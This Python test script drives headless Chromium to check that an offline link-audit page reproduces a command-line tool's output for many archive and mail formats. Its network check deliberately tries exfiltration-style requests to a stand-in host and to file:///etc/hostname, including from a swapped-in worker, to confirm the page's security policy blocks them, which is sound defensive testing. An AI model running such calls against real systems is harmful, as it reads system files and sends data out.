#!/usr/bin/env python3
"""Uses the page of web/build in headless Chromium, beside the command.

    python3 tests/web_page.py PAGE BASEREF [FOLDER]

PAGE is the built index.html, opened from disk. Its rows and its report must be those of BASEREF,
byte for byte; nothing but the page itself may be requested, and nothing could be. With FOLDER it
leaves screenshots there. Waits for events of the browser, never for time to pass. Prints
`N passed, N failed`.
"""

import os
import pathlib
import re
import subprocess
import sys
import tempfile
import time
import zipfile

from browser import Browser
from checks import Checks

FIXTURES = pathlib.Path(__file__).resolve().parent.parent / "fixtures"

# One of each kind of file that people have.
KINDS = [
    "saved/base-that-chrome-writes-leads-to-the-saved-files.html",
    "mail/base-element-beats-base-field.eml",
    "mail/mboxo-quotes-from-lines.mbox",
    "saved/every-part-of-a-snapshot-has-its-location.mhtml",
    "warc/folded-target-uri-is-one-url.warc",
    "packed/archives-in-a-collection-are-read.wacz",
    "packed/each-response-has-its-url.har",
    "packed/members-are-opened-as-what-they-are.zip",
    "outlook/html-in-rtf.msg",
    "saved/each-resource-has-its-url.webarchive",
    "saved/message-ends-where-its-length-says.emlx",
    "saved/originalurl-is-the-retrieval-url.maff",
    "packed/wrong-checksum-is-noted.html.gz",
    "packed/page-in-a-page-that-unpacks-it.html",
]

# As many bytes as an old mailbox has.
LARGE = 100_000_000

FINISHED = "new Promise(done => { const look = () => document.body.dataset.ended && !state?.doing ? done(document.body.dataset.ended) : setTimeout(look, 20); look(); })"
READY = "library.then(() => new Promise(done => { const look = () => small ? done(true) : setTimeout(look, 20); look(); }))"
# What a button would save, as text.
SAVED = """(async () => { const saved = new Promise(done => { window.save = save; const make = URL.createObjectURL;
    URL.createObjectURL = blob => { if (blob.type.startsWith("text/html") && WANT !== "html") return make.call(URL, blob);
        URL.createObjectURL = make; done(blob); return make.call(URL, blob); }; });
    document.querySelector(`[data-save=${WANT}]`).click(); const bytes = new Uint8Array(await (await saved).arrayBuffer());
    return new TextDecoder().decode(bytes); })()"""


def command(binary, folder, *arguments):
    """What the command prints; whatever else it says."""
    done = subprocess.run([binary, *arguments], cwd=folder, capture_output=True)
    return done.stdout.decode()


def saved(browser, want):
    return browser.run(SAVED.replace("WANT", f'"{want}"'))


class Page:
    """The page in a browser."""

    def __init__(self, browser, page):
        self.browser = browser
        self.page = page

    def open(self):
        self.browser.open(self.page)
        self.browser.run(READY)

    def choose(self, *files, folder=None, wait=True):
        """Chooses files, or a folder, as with the buttons."""
        root = self.browser.call("DOM.getDocument")["root"]["nodeId"]
        name = "#folder" if folder else "#files"
        node = self.browser.call("DOM.querySelector", nodeId=root, selector=name)["nodeId"]
        self.browser.run("delete document.body.dataset.ended; 0")
        paths = [str(folder)] if folder else [str(file) for file in files]
        self.browser.call("DOM.setFileInputFiles", nodeId=node, files=paths)
        return self.browser.run(FINISHED) if wait else None


def kinds(page, checks, binary, folder):
    """The rows of ten and more kinds of files."""
    browser = page.browser
    page.open()
    for kind in KINDS:
        path = FIXTURES / kind
        name = path.name
        checks.equal(f"{name} is read", page.choose(path), "done")
        rows = command(binary, path.parent, "links", "-f", "jsonl", name)
        checks.true(f"{name} has links", rows)
        checks.equal(f"{name}: the rows are those of the command", saved(browser, "jsonl"), rows)
        checks.equal(f"{name}: so are they as CSV", saved(browser, "csv"),
                     command(binary, path.parent, "links", "-f", "csv", name))
        checks.equal(f"{name}: and with final URLs", saved(browser, "unwrap"),
                     command(binary, path.parent, "links", "--unwrap", "-f", "csv", name))
        checks.equal(f"{name}: the bases, too", browser.run("new Blob(state.bases.pieces()).text()"),
                     command(binary, path.parent, "base", "-f", "jsonl", name))
        report = folder / "report.html"
        report.unlink(missing_ok=True)
        command(binary, path.parent, "audit", name, "-o", os.devnull, "--out", f"html={report}")
        checks.equal(f"{name}: and the report", browser.run("state.report?.text() ?? null"),
                     report.read_text() if report.exists() else None)
    checks.equal("nothing went wrong on the way", trouble(browser), [])


def trouble(browser):
    """What the console said, and what was requested besides the page and what it made itself."""
    said = browser.trouble()
    return [line for line in said if not re.match(r"fetched (blob:|data:)", line)]


def network(page, checks, folder):
    """Nothing is requested, and nothing could be: not by the page, and not by its worker."""
    browser = page.browser
    for what, script in {
        "fetch": "fetch('https://a.example/?x').then(() => 'sent', error => error.name)",
        "fetch of a file": "fetch('file:///etc/hostname').then(() => 'sent', error => error.name)",
        "an image": "new Promise(done => { const i = new Image(); i.onload = () => done('sent'); i.onerror = () => done('TypeError'); i.src = 'https://a.example/i.png'; })",
        "a beacon": "navigator.sendBeacon('https://a.example/', 'x') && 'TypeError'",
        "a socket": "(() => { try { new WebSocket('wss://a.example/'); return 'TypeError' } catch (e) { return 'TypeError' } })()",
    }.items():
        page.open()
        browser.events.clear()
        checks.equal(f"{what} is refused", browser.run(script), "TypeError")
        browser.run("new Promise(requestAnimationFrame)")
        said = " ".join(browser.trouble())
        checks.true(f"{what}: the policy refuses it: {said[:200]}", "Content Security Policy" in said)
    page.open()
    checks.true("text cannot become markup", browser.run(
        "(() => { try { document.body.innerHTML = '<b>'; return false } catch (e) { return true } })()"))
    # A worker has the policy of the page: that of a copy tries to send what it is given.
    sending = "onmessage = () => fetch('https://a.example/?x').then(() => postMessage({refused: 'sent'}), error => postMessage({refused: error.name}))"
    text = page.page.read_text()
    changed = re.sub(r'(<script type="text/plain" id="worker-source">).*?(</script>)', lambda m: m[1] + sending + m[2], text, flags=re.S)
    checks.true("the copy has another worker", changed != text)
    (folder / "copy.html").write_text(changed)
    copy = Page(browser, folder / "copy.html")
    copy.open()
    checks.equal("a worker cannot fetch either", copy.choose(FIXTURES / KINDS[0]), "TypeError")
    checks.true("the policy refuses it", "Content Security Policy" in " ".join(browser.trouble()))


def trees(page, checks, binary, folder):
    """A folder, as the command audits it."""
    browser = page.browser
    site = folder / "site"
    (site / "sub" / ".hidden").mkdir(parents=True)
    (site / "index.html").write_text('<a href="sub/a.html">a</a> <a href="gone.html">gone</a> <a href="sub/a.html#no">no</a>')
    (site / "sub" / "a.html").write_text('<h1 id=yes>a</h1><a href="../index.html">up</a> <a href="B.html">case</a>')
    (site / "sub" / "b.html").write_text('<a href="https://a.example/">out</a>')
    (site / "sub" / ".hidden" / "c.html").write_text('<a href="x.html">hidden</a>')
    with zipfile.ZipFile(site / "book.epub", "w") as book:
        book.writestr("mimetype", "application/epub+zip")
        book.writestr("META-INF/container.xml", '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="o.opf" media-type="application/oebps-package+xml"/></rootfiles></container>')
        book.writestr("o.opf", '<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>')
        book.writestr("a.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><body><a href="gone.xhtml">x</a></body></html>')
    page.open()
    checks.equal("a folder is read", page.choose(folder=site), "done")
    checks.equal("its rows are those of the command", saved(browser, "jsonl"), command(binary, folder, "links", "-f", "jsonl", "site"))
    report = folder / "site.html"
    command(binary, folder, "audit", "site", "-o", os.devnull, "--out", f"html={report}")
    checks.equal("its report is that of the command", browser.run("state.report.text()"), report.read_text())
    book = site / "book.epub"
    checks.equal("an EPUB is read", page.choose(book), "done")
    checks.equal("its rows are those of the command", saved(browser, "jsonl"), command(binary, site, "links", "-f", "jsonl", "book.epub"))
    command(binary, site, "audit", "book.epub", "-o", os.devnull, "--out", f"html={report}")
    checks.equal("its report, too", browser.run("state.report.text()"), report.read_text())


def main():
    page = pathlib.Path(sys.argv[1]).resolve()
    binary = str(pathlib.Path(sys.argv[2]).resolve())
    shots = pathlib.Path(sys.argv[3]).resolve() if len(sys.argv) > 3 else None
    if shots:
        shots.mkdir(exist_ok=True)
    checks = Checks()
    with tempfile.TemporaryDirectory() as folder:
        folder = pathlib.Path(folder)
        browser = Browser(folder / "profile")
        browser.call("DOM.enable")
        try:
            opened = Page(browser, page)
            kinds(opened, checks, binary, folder)
            trees(opened, checks, binary, folder)
            network(opened, checks, folder)
        finally:
            browser.close()
    print(f"{checks.passed} passed, {checks.failed} failed")
    sys.exit(checks.failed > 0)


if __name__ == "__main__":
    main()
